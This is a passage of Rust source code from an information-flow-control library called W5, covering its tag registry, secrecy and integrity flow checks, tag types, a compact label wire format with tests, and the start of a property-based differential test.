    /// Metadata for a tag, if it exists.
    pub fn meta(&self, tag: Tag) -> Option<TagMeta> {
        self.meta.read().get(&tag).cloned()
    }

    /// True if the tag has been allocated by this registry.
    pub fn exists(&self, tag: Tag) -> bool {
        self.meta.read().contains_key(&tag)
    }

    /// Number of allocated tags.
    pub fn tag_count(&self) -> usize {
        self.meta.read().len()
    }

    /// A snapshot of the global bag `Ô`.
    pub fn global_bag(&self) -> CapSet {
        self.global.read().clone()
    }

    /// The *effective* capability set of a process: its private bag plus the
    /// global bag.
    pub fn effective(&self, private: &CapSet) -> CapSet {
        self.global.read().union(private)
    }

    /// Does the effective set (private ∪ global) contain the capability?
    pub fn effectively_holds(&self, private: &CapSet, cap: Capability) -> bool {
        private.contains(cap) || self.global.read().contains(cap)
    }

    /// Metadata for every allocated tag, sorted by tag id. This is the
    /// enumeration surface for configuration auditors (`w5-analyze`): a
    /// stable, deterministic view of the whole tag universe.
    pub fn all_meta(&self) -> Vec<TagMeta> {
        let mut v: Vec<TagMeta> = self.meta.read().values().cloned().collect();
        v.sort_by_key(|m| m.tag);
        v
    }

    /// Find a tag by its audit name. Linear scan — audit/debug use only.
    pub fn find_by_name(&self, name: &str) -> Option<Tag> {
        self.meta
            .read()
            .values()
            .find(|m| m.name == name)
            .map(|m| m.tag)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn export_protect_distribution() {
        let reg = TagRegistry::new();
        let (t, creator) = reg.create_tag(TagKind::ExportProtect, "export:bob");
        assert!(reg.global_bag().has_plus(t), "t+ must be public");
        assert!(!reg.global_bag().has_minus(t), "t- must be private");
        assert!(creator.has_minus(t), "creator declassifies");
        assert!(!creator.has_plus(t));
    }

    #[test]
    fn write_protect_distribution() {
        let reg = TagRegistry::new();
        let (t, creator) = reg.create_tag(TagKind::WriteProtect, "write:bob");
        assert!(reg.global_bag().has_minus(t));
        assert!(!reg.global_bag().has_plus(t));
        assert!(creator.has_plus(t), "creator endorses");
        assert!(!creator.has_minus(t));
    }

    #[test]
    fn read_protect_keeps_both_private() {
        let reg = TagRegistry::new();
        let (t, creator) = reg.create_tag(TagKind::ReadProtect, "read:bob");
        assert!(reg.global_bag().is_empty());
        assert!(creator.owns(t));
    }

    #[test]
    fn tags_are_unique_and_registered() {
        let reg = TagRegistry::new();
        let (a, _) = reg.create_tag(TagKind::ExportProtect, "a");
        let (b, _) = reg.create_tag(TagKind::ExportProtect, "b");
        assert_ne!(a, b);
        assert!(reg.exists(a));
        assert!(reg.exists(b));
        assert!(!reg.exists(Tag::from_raw(999)));
        assert_eq!(reg.tag_count(), 2);
        assert_eq!(reg.meta(a).unwrap().name, "a");
        assert_eq!(reg.find_by_name("b"), Some(b));
        assert_eq!(reg.find_by_name("zzz"), None);
    }

    #[test]
    fn effective_combines_private_and_global() {
        let reg = TagRegistry::new();
        let (t, creator) = reg.create_tag(TagKind::ExportProtect, "x");
        // Any process, even with an empty private bag, effectively holds t+.
        assert!(reg.effectively_holds(&CapSet::empty(), Capability::plus(t)));
        // Only the creator effectively holds t-.
        assert!(!reg.effectively_holds(&CapSet::empty(), Capability::minus(t)));
        assert!(reg.effectively_holds(&creator, Capability::minus(t)));
        let eff = reg.effective(&creator);
        assert!(eff.owns(t));
    }

    #[test]
    fn concurrent_tag_creation_yields_distinct_tags() {
        use std::sync::Arc;
        let reg = Arc::new(TagRegistry::new());
        let mut handles = Vec::new();
        for _ in 0..8 {
            let reg = Arc::clone(&reg);
            handles.push(std::thread::spawn(move || {
                (0..100)
                    .map(|i| reg.create_tag(TagKind::ExportProtect, &format!("t{i}")).0)
                    .collect::<Vec<_>>()
            }));
        }
        let mut all: Vec<Tag> = handles
            .into_iter()
            .flat_map(|h| h.join().unwrap())
            .collect();
        all.sort_unstable();
        all.dedup();
        assert_eq!(all.len(), 800, "no duplicate tags under concurrency");
    }
}
