//! The flow rules: safe label changes and permitted communication.
//!
//! These few functions are the entire security argument of W5. The kernel,
//! the store and the perimeter refuse any data movement these functions do
//! not bless.
//!
//! Notation (Flume, SOSP 2007): a process `p` has secrecy label `S_p`,
//! integrity label `I_p` and effective capability set `O_p` (private bag ∪
//! global bag). `O_p⁺` is the set of tags with `t+ ∈ O_p`, `O_p⁻` likewise.
//!
//! * **Safe label change** `L → L'`: requires `(L' − L) ⊆ O⁺` and
//!   `(L − L') ⊆ O⁻`.
//! * **Secrecy flow** `p → q`: `S_p − O_p⁻ ⊆ S_q ∪ O_q⁺` — the sender may
//!   declassify what it owns minuses for, the receiver may raise for what it
//!   holds pluses on; everything else must already be ⊆.
//! * **Integrity flow** `p → q` (q consumes p's data): `I_q − O_q⁻ ⊆ I_p ∪
//!   O_p⁺` — the receiver's integrity claims must be vouchable by the
//!   sender, modulo claims the receiver may drop and endorsements the
//!   sender may add.

use crate::caps::CapSet;
use crate::error::{DifcError, DifcResult};
use crate::label::Label;
use crate::LabelPair;

/// Check a label change `from → to` against the capability set `caps`
/// (which should already include the global bag; see
/// [`crate::TagRegistry::effective`]).
pub fn safe_change(from: &Label, to: &Label, caps: &CapSet) -> DifcResult<()> {
    let result = safe_change_unobserved(from, to, caps);
    // The flow the check describes carries the union of both labels: a
    // denial reveals something about where the subject stood *and* where
    // it tried to go.
    w5_obs::count_check("change", result.is_ok(), &from.union(to).to_obs());
    result
}

fn safe_change_unobserved(from: &Label, to: &Label, caps: &CapSet) -> DifcResult<()> {
    let added = to.difference(from);
    let missing_plus: Label = added.iter().filter(|&t| !caps.has_plus(t)).collect();
    if !missing_plus.is_empty() {
        return Err(DifcError::MissingPlus { tags: missing_plus });
    }
    let removed = from.difference(to);
    let missing_minus: Label = removed.iter().filter(|&t| !caps.has_minus(t)).collect();
    if !missing_minus.is_empty() {
        return Err(DifcError::MissingMinus { tags: missing_minus });
    }
    Ok(())
}

/// Raw flow check: may data with secrecy `s_src` flow to a sink with
/// secrecy `s_dst`, with no privilege exercised? This is the per-message
/// fast path once endpoints have been validated.
pub fn can_flow(s_src: &Label, s_dst: &Label) -> bool {
    s_src.is_subset(s_dst)
}

/// Privileged secrecy flow check: sender with secrecy `s_src` and effective
/// capabilities `o_src` sends to receiver with secrecy `s_dst`, capabilities
/// `o_dst`.
pub fn can_flow_with(s_src: &Label, o_src: &CapSet, s_dst: &Label, o_dst: &CapSet) -> DifcResult<()> {
    // S_src − O_src⁻ ⊆ S_dst ∪ O_dst⁺
    let leaked: Label = s_src
        .iter()
        .filter(|&t| !o_src.has_minus(t))
        .filter(|&t| !s_dst.contains(t) && !o_dst.has_plus(t))
        .collect();
    let allowed = leaked.is_empty();
    w5_obs::count_check("flow", allowed, &s_src.to_obs());
    if allowed {
        Ok(())
    } else {
        Err(DifcError::SecrecyViolation { leaked })
    }
}

/// Privileged integrity flow check for `dst` consuming data from `src`:
/// every integrity tag `dst` keeps claiming must be present at the source
/// or endorsable by the source.
pub fn integrity_flow_with(
    i_src: &Label,
    o_src: &CapSet,
    i_dst: &Label,
    o_dst: &CapSet,
) -> DifcResult<()> {
    // I_dst − O_dst⁻ ⊆ I_src ∪ O_src⁺
    let unvouched: Label = i_dst
        .iter()
        .filter(|&t| !o_dst.has_minus(t))
        .filter(|&t| !i_src.contains(t) && !o_src.has_plus(t))
        .collect();
    if unvouched.is_empty() {
        Ok(())
    } else {
        Err(DifcError::IntegrityViolation { unvouched })
    }
}

/// Outcome of a full read/write admissibility check.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum FlowCheck {
    /// The access is admissible with the labels as they stand.
    Allowed,
    /// The access is admissible only after the subject performs the given
    /// safe label change (e.g. raising secrecy to read a private file).
    AllowedWithChange {
        /// Secrecy label the subject must adopt.
        new_secrecy: Label,
        /// Integrity label the subject must adopt.
        new_integrity: Label,
    },
    /// No safe label change makes the access admissible.
    Denied(DifcError),
}

impl FlowCheck {
    /// True unless the check is a denial.
    pub fn is_allowed(&self) -> bool {
        !matches!(self, FlowCheck::Denied(_))
    }
}

/// May a subject with labels `subj` and effective capabilities `caps` *read*
/// an object labeled `obj`? Reading requires `S_obj ⊆ S_subj` (possibly
/// after raising, which `t+ ∈ Ô` makes free for export-protect tags) and
/// taints the subject's integrity down to `I_subj ∩ I_obj`.
///
/// Returns the label change the subject must undergo, if any.
pub fn labels_for_read(subj: &LabelPair, caps: &CapSet, obj: &LabelPair) -> FlowCheck {
    let check = labels_for_read_unobserved(subj, caps, obj);
    // Reads move the object's data toward the subject: the described flow
    // carries the object's secrecy.
    w5_obs::count_check("read", check.is_allowed(), &obj.secrecy.to_obs());
    check
}

fn labels_for_read_unobserved(subj: &LabelPair, caps: &CapSet, obj: &LabelPair) -> FlowCheck {
    let need_raise = obj.secrecy.difference(&subj.secrecy);
    let new_secrecy = if need_raise.is_empty() {
        subj.secrecy.clone()
    } else {
        // Every tag we must add needs a t+ in the effective set.
        let blocked: Label = need_raise.iter().filter(|&t| !caps.has_plus(t)).collect();
        if !blocked.is_empty() {
            return FlowCheck::Denied(DifcError::MissingPlus { tags: blocked });
        }
        subj.secrecy.union(&need_raise)
    };

    // Integrity: reading low-integrity data drops claims the object lacks,
    // unless the subject may keep them via t- ... no: keeping a claim the
    // data doesn't carry would forge provenance. The subject's new integrity
    // is the intersection, and dropping tags requires t- — which is public
    // for write-protect tags, so this nearly always succeeds.
    let dropped = subj.integrity.difference(&obj.integrity);
    let blocked: Label = dropped.iter().filter(|&t| !caps.has_minus(t)).collect();
    if !blocked.is_empty() {
        return FlowCheck::Denied(DifcError::MissingMinus { tags: blocked });
    }
    let new_integrity = subj.integrity.intersection(&obj.integrity);

    if new_secrecy == subj.secrecy && new_integrity == subj.integrity {
        FlowCheck::Allowed
    } else {
        FlowCheck::AllowedWithChange { new_secrecy, new_integrity }
    }
}

/// May a subject with labels `subj` and effective capabilities `caps`
/// *write* an object labeled `obj`?
///
/// Writing requires the object to absorb the subject's secrecy
/// (`S_subj − O⁻ ⊆ S_obj`: no laundering secrets into less-secret files) and
/// the subject to vouch the object's integrity
/// (`I_obj ⊆ I_subj ∪ O⁺`: no forging endorsements).
pub fn labels_for_write(subj: &LabelPair, caps: &CapSet, obj: &LabelPair) -> FlowCheck {
    let check = labels_for_write_unobserved(subj, caps, obj);
    // Writes move the subject's data toward the object: the described flow
    // carries the subject's secrecy.
    w5_obs::count_check("write", check.is_allowed(), &subj.secrecy.to_obs());
    check
}

fn labels_for_write_unobserved(subj: &LabelPair, caps: &CapSet, obj: &LabelPair) -> FlowCheck {
    let leaked: Label = subj
        .secrecy
        .iter()
        .filter(|&t| !caps.has_minus(t))
        .filter(|&t| !obj.secrecy.contains(t))
        .collect();
    if !leaked.is_empty() {
        return FlowCheck::Denied(DifcError::SecrecyViolation { leaked });
    }
    let unvouched: Label = obj
        .integrity
        .iter()
        .filter(|&t| !subj.integrity.contains(t) && !caps.has_plus(t))
        .collect();
    if !unvouched.is_empty() {
        return FlowCheck::Denied(DifcError::IntegrityViolation { unvouched });
    }
    FlowCheck::Allowed
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::TagRegistry;
    use crate::tag::{Tag, TagKind};

    fn l(ids: &[u64]) -> Label {
        Label::from_iter(ids.iter().map(|&i| Tag::from_raw(i)))
    }

    #[test]
    fn safe_change_rules() {
        let reg = TagRegistry::new();
        let (e, alice) = reg.create_tag(TagKind::ExportProtect, "export:alice");
        let anyone = reg.effective(&CapSet::empty());
        let alice_eff = reg.effective(&alice);

        // Anyone can raise secrecy with an export-protect tag.
        assert!(safe_change(&Label::empty(), &Label::singleton(e), &anyone).is_ok());
        // Only alice can lower it.
        assert!(matches!(
            safe_change(&Label::singleton(e), &Label::empty(), &anyone),
            Err(DifcError::MissingMinus { .. })
        ));
        assert!(safe_change(&Label::singleton(e), &Label::empty(), &alice_eff).is_ok());
    }

    #[test]
    fn write_protect_change_rules() {
        let reg = TagRegistry::new();
        let (w, bob) = reg.create_tag(TagKind::WriteProtect, "write:bob");
        let anyone = reg.effective(&CapSet::empty());
        let bob_eff = reg.effective(&bob);

        // Anyone may drop the integrity claim…
        assert!(safe_change(&Label::singleton(w), &Label::empty(), &anyone).is_ok());
        // …but only bob may claim it.
        assert!(matches!(
            safe_change(&Label::empty(), &Label::singleton(w), &anyone),
            Err(DifcError::MissingPlus { .. })
        ));
        assert!(safe_change(&Label::empty(), &Label::singleton(w), &bob_eff).is_ok());
    }

    #[test]
    fn raw_flow_is_subset() {
        assert!(can_flow(&l(&[]), &l(&[])));
        assert!(can_flow(&l(&[1]), &l(&[1, 2])));
        assert!(!can_flow(&l(&[1, 3]), &l(&[1, 2])));
    }

    #[test]
    fn privileged_flow_declassifies_with_minus() {
        let t = Tag::from_raw(1);
        let mut owner = CapSet::empty();
        owner.insert(crate::caps::Capability::minus(t));
        // Tagged data to an untagged sink: only the owner can send it.
        assert!(can_flow_with(&l(&[1]), &CapSet::empty(), &l(&[]), &CapSet::empty()).is_err());
        assert!(can_flow_with(&l(&[1]), &owner, &l(&[]), &CapSet::empty()).is_ok());
        // A receiver holding t+ can accept by raising.
        let mut raiser = CapSet::empty();
        raiser.insert(crate::caps::Capability::plus(t));
        assert!(can_flow_with(&l(&[1]), &CapSet::empty(), &l(&[]), &raiser).is_ok());
    }

    #[test]
    fn integrity_flow_needs_vouching() {
        let w = Tag::from_raw(9);
        // dst claims w, src doesn't carry it and can't endorse: refused.
        assert!(integrity_flow_with(&l(&[]), &CapSet::empty(), &l(&[9]), &CapSet::empty()).is_err());
        // src carries the claim: ok.
        assert!(integrity_flow_with(&l(&[9]), &CapSet::empty(), &l(&[9]), &CapSet::empty()).is_ok());
        // src can endorse: ok.
        let mut endorser = CapSet::empty();
        endorser.insert(crate::caps::Capability::plus(w));
        assert!(integrity_flow_with(&l(&[]), &endorser, &l(&[9]), &CapSet::empty()).is_ok());
        // dst may drop the claim: ok.
        let mut dropper = CapSet::empty();
        dropper.insert(crate::caps::Capability::minus(w));
        assert!(integrity_flow_with(&l(&[]), &CapSet::empty(), &l(&[9]), &dropper).is_ok());
    }

    #[test]
    fn read_raises_secrecy_when_permitted() {
        let reg = TagRegistry::new();
        let (e, _alice) = reg.create_tag(TagKind::ExportProtect, "export:alice");
        let anyone = reg.effective(&CapSet::empty());
        let subj = LabelPair::public();
        let obj = LabelPair::new(Label::singleton(e), Label::empty());
        match labels_for_read(&subj, &anyone, &obj) {
            FlowCheck::AllowedWithChange { new_secrecy, new_integrity } => {
                assert_eq!(new_secrecy, Label::singleton(e));
                assert!(new_integrity.is_empty());
            }
            other => panic!("expected raise, got {other:?}"),
        }
    }

    #[test]
    fn read_protect_blocks_unauthorized_raise() {
        let reg = TagRegistry::new();
        let (r, owner) = reg.create_tag(TagKind::ReadProtect, "read:alice");
        let anyone = reg.effective(&CapSet::empty());
        let subj = LabelPair::public();
        let obj = LabelPair::new(Label::singleton(r), Label::empty());
        assert!(matches!(
            labels_for_read(&subj, &anyone, &obj),
            FlowCheck::Denied(DifcError::MissingPlus { .. })
        ));
        // With the owner's capabilities the raise succeeds.
        assert!(labels_for_read(&subj, &reg.effective(&owner), &obj).is_allowed());
    }

    #[test]
    fn read_taints_integrity() {
        let reg = TagRegistry::new();
        let (w, bob) = reg.create_tag(TagKind::WriteProtect, "write:bob");
        let eff = reg.effective(&bob);
        // Subject currently claims w; reads an object without it.
        let subj = LabelPair::new(Label::empty(), Label::singleton(w));
        let obj = LabelPair::public();
        match labels_for_read(&subj, &eff, &obj) {
            FlowCheck::AllowedWithChange { new_integrity, .. } => {
                assert!(new_integrity.is_empty(), "claim must drop");
            }
            other => panic!("expected taint, got {other:?}"),
        }
    }

    #[test]
    fn write_respects_both_axes() {
        let reg = TagRegistry::new();
        let (e, alice) = reg.create_tag(TagKind::ExportProtect, "export:alice");
        let (w, bob) = reg.create_tag(TagKind::WriteProtect, "write:bob");
        let anyone = reg.effective(&CapSet::empty());

        // A process that has read alice's data cannot write a public file.
        let tainted = LabelPair::new(Label::singleton(e), Label::empty());
        let public_file = LabelPair::public();
        assert!(matches!(
            labels_for_write(&tainted, &anyone, &public_file),
            FlowCheck::Denied(DifcError::SecrecyViolation { .. })
        ));
        // …but alice's declassifier can.
        assert!(labels_for_write(&tainted, &reg.effective(&alice), &public_file).is_allowed());
        // …and anyone can write a file that is itself alice-secret.
        let alice_file = LabelPair::new(Label::singleton(e), Label::empty());
        assert!(labels_for_write(&tainted, &anyone, &alice_file).is_allowed());

        // Writing bob's write-protected file requires endorsement.
        let bob_file = LabelPair::new(Label::empty(), Label::singleton(w));
        let clean = LabelPair::public();
        assert!(matches!(
            labels_for_write(&clean, &anyone, &bob_file),
            FlowCheck::Denied(DifcError::IntegrityViolation { .. })
        ));
        assert!(labels_for_write(&clean, &reg.effective(&bob), &bob_file).is_allowed());
    }

    #[test]
    fn write_after_read_cannot_launder() {
        // The canonical W5 attack: read Bob's photos, write them to a
        // public file, fetch the public file from outside. The write check
        // must stop step two.
        let reg = TagRegistry::new();
        let (e_bob, _bob) = reg.create_tag(TagKind::ExportProtect, "export:bob");
        let anyone = reg.effective(&CapSet::empty());

        let mut app = LabelPair::public();
        let photo = LabelPair::new(Label::singleton(e_bob), Label::empty());
        // The app raises to read — allowed.
        match labels_for_read(&app, &anyone, &photo) {
            FlowCheck::AllowedWithChange { new_secrecy, new_integrity } => {
                app = LabelPair::new(new_secrecy, new_integrity);
            }
            other => panic!("read should raise: {other:?}"),
        }
        // Now it tries to write a public file — denied.
        assert!(!labels_for_write(&app, &anyone, &LabelPair::public()).is_allowed());
    }
}
