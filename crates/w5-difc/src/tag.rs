//! Opaque tag identifiers.
//!
//! A [`Tag`] names one category of protected information — in W5, typically
//! "user `u`'s private data" (export protection) or "data vouched for by
//! `u`" (write protection). Tags carry no meaning themselves; all semantics
//! live in which capabilities over the tag are held where (see
//! [`crate::registry::TagRegistry`]).

use std::fmt;
use std::num::NonZeroU64;

/// An opaque, globally unique tag identifier.
///
/// Tags are small `Copy` values so that label operations never chase
/// pointers. The zero value is reserved (see [`NonZeroU64`]), which lets
/// `Option<Tag>` be pointer-width.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(transparent)]
pub struct Tag(NonZeroU64);

impl Tag {
    /// Construct a tag from a raw non-zero id.
    ///
    /// # Panics
    /// Panics if `raw` is zero. Use [`Tag::try_from_raw`] for fallible
    /// construction.
    pub fn from_raw(raw: u64) -> Tag {
        Tag(NonZeroU64::new(raw).expect("tag id must be non-zero"))
    }

    /// Fallible construction from a raw id.
    pub fn try_from_raw(raw: u64) -> Option<Tag> {
        NonZeroU64::new(raw).map(Tag)
    }

    /// The raw 64-bit id.
    pub fn raw(self) -> u64 {
        self.0.get()
    }
}

impl fmt::Debug for Tag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t{}", self.0)
    }
}

impl fmt::Display for Tag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t{}", self.0)
    }
}

/// What default capability distribution a tag was created with.
///
/// The kind is fixed at allocation time and determines which half of the
/// tag's capability pair enters the global bag (paper §3.1; Flume §3.2).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub enum TagKind {
    /// Export protection (secrecy). `t+` is public: anyone may raise their
    /// secrecy label to read data tagged `t`. `t-` — the right to
    /// *declassify* — stays with the creator.
    ExportProtect,
    /// Write protection (integrity). `t-` is public: anyone may drop the
    /// integrity claim. `t+` — the right to *endorse* writes — stays with
    /// the creator.
    WriteProtect,
    /// No capability is public; the creator holds both `t+` and `t-`.
    /// Used for read-protection policies (paper §3.1 "other interesting
    /// policies"), where even raising one's label to view the data requires
    /// a grant.
    ReadProtect,
}

impl TagKind {
    /// True if `t+` enters the global bag on creation.
    pub fn plus_is_public(self) -> bool {
        matches!(self, TagKind::ExportProtect)
    }

    /// True if `t-` enters the global bag on creation.
    pub fn minus_is_public(self) -> bool {
        matches!(self, TagKind::WriteProtect)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn raw_roundtrip() {
        let t = Tag::from_raw(42);
        assert_eq!(t.raw(), 42);
        assert_eq!(Tag::try_from_raw(0), None);
        assert_eq!(Tag::try_from_raw(7).unwrap().raw(), 7);
    }

    #[test]
    #[should_panic(expected = "non-zero")]
    fn zero_tag_panics() {
        let _ = Tag::from_raw(0);
    }

    #[test]
    fn option_tag_is_small() {
        assert_eq!(
            std::mem::size_of::<Option<Tag>>(),
            std::mem::size_of::<u64>()
        );
    }

    #[test]
    fn kind_capability_distribution() {
        assert!(TagKind::ExportProtect.plus_is_public());
        assert!(!TagKind::ExportProtect.minus_is_public());
        assert!(TagKind::WriteProtect.minus_is_public());
        assert!(!TagKind::WriteProtect.plus_is_public());
        assert!(!TagKind::ReadProtect.plus_is_public());
        assert!(!TagKind::ReadProtect.minus_is_public());
    }

    #[test]
    fn ordering_follows_raw_id() {
        assert!(Tag::from_raw(1) < Tag::from_raw(2));
        assert!(Tag::from_raw(100) > Tag::from_raw(99));
    }

    #[test]
    fn display_and_debug() {
        let t = Tag::from_raw(5);
        assert_eq!(format!("{t}"), "t5");
        assert_eq!(format!("{t:?}"), "t5");
    }
}
