//! Compact binary wire format for labels.
//!
//! Labels cross machine boundaries in W5 — between federated providers and
//! on every persisted object — so they need a stable, compact encoding.
//! The format is: a varint count, then the tag ids as varint *deltas* in
//! ascending order (labels are sorted sets, so deltas are small).
//!
//! Varints are LEB128 (7 bits per byte, high bit = continuation), the same
//! scheme protobuf and WebAssembly use.

use crate::label::Label;
use crate::tag::Tag;
use crate::LabelPair;

/// Encoding/decoding errors.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum WireError {
    /// Input ended mid-value.
    Truncated,
    /// A varint exceeded 64 bits.
    Overflow,
    /// Tag deltas must be strictly positive after the first tag, and the
    /// first tag must be non-zero.
    NonCanonical,
}

impl std::fmt::Display for WireError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            WireError::Truncated => write!(f, "truncated label encoding"),
            WireError::Overflow => write!(f, "varint overflow in label encoding"),
            WireError::NonCanonical => write!(f, "non-canonical label encoding"),
        }
    }
}

impl std::error::Error for WireError {}

/// Append a LEB128 varint to `out`.
pub fn put_varint(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// Read a LEB128 varint from `buf` starting at `*pos`, advancing `*pos`.
pub fn get_varint(buf: &[u8], pos: &mut usize) -> Result<u64, WireError> {
    let mut v: u64 = 0;
    let mut shift = 0u32;
    loop {
        let byte = *buf.get(*pos).ok_or(WireError::Truncated)?;
        *pos += 1;
        if shift >= 64 || (shift == 63 && byte > 1) {
            return Err(WireError::Overflow);
        }
        v |= u64::from(byte & 0x7f) << shift;
        if byte & 0x80 == 0 {
            return Ok(v);
        }
        shift += 7;
    }
}

/// Encode a label into `out`.
pub fn encode_label(label: &Label, out: &mut Vec<u8>) {
    put_varint(out, label.len() as u64);
    let mut prev = 0u64;
    for t in label.iter() {
        put_varint(out, t.raw() - prev);
        prev = t.raw();
    }
}

/// Decode a label from `buf` at `*pos`.
pub fn decode_label(buf: &[u8], pos: &mut usize) -> Result<Label, WireError> {
    let n = get_varint(buf, pos)?;
    if n > buf.len() as u64 {
        // Each tag takes at least one byte; anything larger is garbage and
        // must not cause a huge allocation.
        return Err(WireError::Truncated);
    }
    let mut v = Vec::with_capacity(n as usize);
    let mut prev = 0u64;
    for i in 0..n {
        let delta = get_varint(buf, pos)?;
        if delta == 0 && i > 0 {
            return Err(WireError::NonCanonical);
        }
        let raw = prev.checked_add(delta).ok_or(WireError::Overflow)?;
        let tag = Tag::try_from_raw(raw).ok_or(WireError::NonCanonical)?;
        v.push(tag);
        prev = raw;
    }
    Ok(Label::from_sorted_vec(v))
}

/// Encode a label pair (secrecy then integrity).
pub fn encode_pair(pair: &LabelPair, out: &mut Vec<u8>) {
    encode_label(&pair.secrecy, out);
    encode_label(&pair.integrity, out);
}

/// Decode a label pair.
pub fn decode_pair(buf: &[u8], pos: &mut usize) -> Result<LabelPair, WireError> {
    let secrecy = decode_label(buf, pos)?;
    let integrity = decode_label(buf, pos)?;
    Ok(LabelPair { secrecy, integrity })
}

/// Convenience: encode a pair to a fresh buffer.
pub fn pair_to_bytes(pair: &LabelPair) -> Vec<u8> {
    let mut out = Vec::with_capacity(8 + 2 * (pair.secrecy.len() + pair.integrity.len()));
    encode_pair(pair, &mut out);
    out
}

/// Convenience: decode a pair from a complete buffer, requiring full
/// consumption.
pub fn pair_from_bytes(buf: &[u8]) -> Result<LabelPair, WireError> {
    let mut pos = 0;
    let pair = decode_pair(buf, &mut pos)?;
    if pos != buf.len() {
        return Err(WireError::NonCanonical);
    }
    Ok(pair)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn l(ids: &[u64]) -> Label {
        Label::from_iter(ids.iter().map(|&i| Tag::from_raw(i)))
    }

    #[test]
    fn varint_roundtrip() {
        for v in [0u64, 1, 127, 128, 300, u32::MAX as u64, u64::MAX] {
            let mut buf = Vec::new();
            put_varint(&mut buf, v);
            let mut pos = 0;
            assert_eq!(get_varint(&buf, &mut pos).unwrap(), v);
            assert_eq!(pos, buf.len());
        }
    }

    #[test]
    fn varint_truncated() {
        let mut pos = 0;
        assert_eq!(get_varint(&[0x80], &mut pos), Err(WireError::Truncated));
    }

    #[test]
    fn varint_overflow() {
        let buf = [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f];
        let mut pos = 0;
        assert_eq!(get_varint(&buf, &mut pos), Err(WireError::Overflow));
    }

    #[test]
    fn label_roundtrip() {
        for ids in [&[][..], &[1], &[1, 2, 3], &[5, 1000, 1_000_000]] {
            let lab = l(ids);
            let mut buf = Vec::new();
            encode_label(&lab, &mut buf);
            let mut pos = 0;
            assert_eq!(decode_label(&buf, &mut pos).unwrap(), lab);
            assert_eq!(pos, buf.len());
        }
    }

    #[test]
    fn delta_encoding_is_compact() {
        // 100 consecutive tags should take ~1 byte each plus the header.
        let lab = Label::from_iter((1..=100).map(Tag::from_raw));
        let mut buf = Vec::new();
        encode_label(&lab, &mut buf);
        assert!(buf.len() <= 102, "got {} bytes", buf.len());
    }

    #[test]
    fn pair_roundtrip_and_full_consumption() {
        let pair = LabelPair::new(l(&[3, 9]), l(&[7]));
        let bytes = pair_to_bytes(&pair);
        assert_eq!(pair_from_bytes(&bytes).unwrap(), pair);
        // Trailing garbage is rejected.
        let mut longer = bytes.clone();
        longer.push(0);
        assert_eq!(pair_from_bytes(&longer), Err(WireError::NonCanonical));
    }

    #[test]
    fn zero_first_tag_rejected() {
        // count=1, delta=0 → tag id 0, invalid.
        let buf = [1u8, 0u8];
        let mut pos = 0;
        assert_eq!(decode_label(&buf, &mut pos), Err(WireError::NonCanonical));
    }

    #[test]
    fn huge_count_does_not_allocate() {
        let mut buf = Vec::new();
        put_varint(&mut buf, u64::MAX);
        let mut pos = 0;
        assert_eq!(decode_label(&buf, &mut pos), Err(WireError::Truncated));
    }
}
