//! Differential tests: interned label operations vs the naive reference.
//!
//! [`w5_difc::intern`] memoizes subset checks and set algebra behind
//! opaque ids; [`w5_difc::naive`] retains the plain `Vec<Tag>`
//! implementations with no caching at all. For arbitrary labels the two
//! must agree *exactly* — any divergence means a cache returned a stale or
//! misfiled verdict, which is a security bug, not a performance bug.
//!
//! The same properties also run under an armed `w5-chaos` fault storm.
//! Interning deliberately fires no chaos sites (determinism — see
//! `DESIGN.md` §11), so an injected schedule must not change a single
//! answer; this pins that contract rather than assuming it.

use proptest::prelude::*;
use w5_difc::{intern, naive, Label, LabelPair, Tag};

fn arb_label() -> impl Strategy<Value = Label> {
    // Raw tag ids in a dedicated range so this test cannot collide with
    // labels interned by other tests sharing the process-global table.
    proptest::collection::vec(900_000_001u64..900_000_064, 0..12)
        .prop_map(|ids| Label::from_iter(ids.into_iter().map(Tag::from_raw)))
}

fn tags(label: &Label) -> Vec<Tag> {
    naive::tags_of(label)
}

/// Assert every interned operation against its naive counterpart for one
/// generated triple of labels.
fn check_agreement(a: &Label, b: &Label, c: &Label) -> Result<(), TestCaseError> {
    let (ta, tb) = (tags(a), tags(b));
    let (ia, ib) = (intern::intern(a), intern::intern(b));

    // Interning is stable and injective on canonical sets.
    prop_assert_eq!(intern::intern(a), ia);
    prop_assert_eq!(ia == ib, a == b);
    prop_assert_eq!(ia.resolve(), a.clone());

    // Subset (run twice: the second round is answered from the flow cache).
    for _ in 0..2 {
        prop_assert_eq!(intern::subset(ia, ib), naive::subset(&ta, &tb));
        prop_assert_eq!(intern::subset(ib, ia), naive::subset(&tb, &ta));
    }

    // Union and intersection (twice: second round hits the op memo).
    for _ in 0..2 {
        prop_assert_eq!(tags(&intern::union(ia, ib).resolve()), naive::union(&ta, &tb));
        prop_assert_eq!(
            tags(&intern::intersect(ia, ib).resolve()),
            naive::intersect(&ta, &tb)
        );
    }

    // can_flow (the unprivileged rule is exactly subset).
    prop_assert_eq!(intern::subset(ia, ib), naive::can_flow(&ta, &tb));

    // Pair combine: secrecy unions, integrity intersects.
    let pa = LabelPair::new(a.clone(), c.clone());
    let pb = LabelPair::new(b.clone(), a.clone());
    let combined = pa.interned().combine(pb.interned()).resolve();
    prop_assert_eq!(tags(&combined.secrecy), naive::union(&ta, &tb));
    prop_assert_eq!(tags(&combined.integrity), naive::intersect(&tags(c), &ta));

    // The obs-side image is the raw tag sequence, cached or not.
    prop_assert_eq!(ia.to_obs(), a.to_obs_uncached());
    Ok(())
}

proptest! {
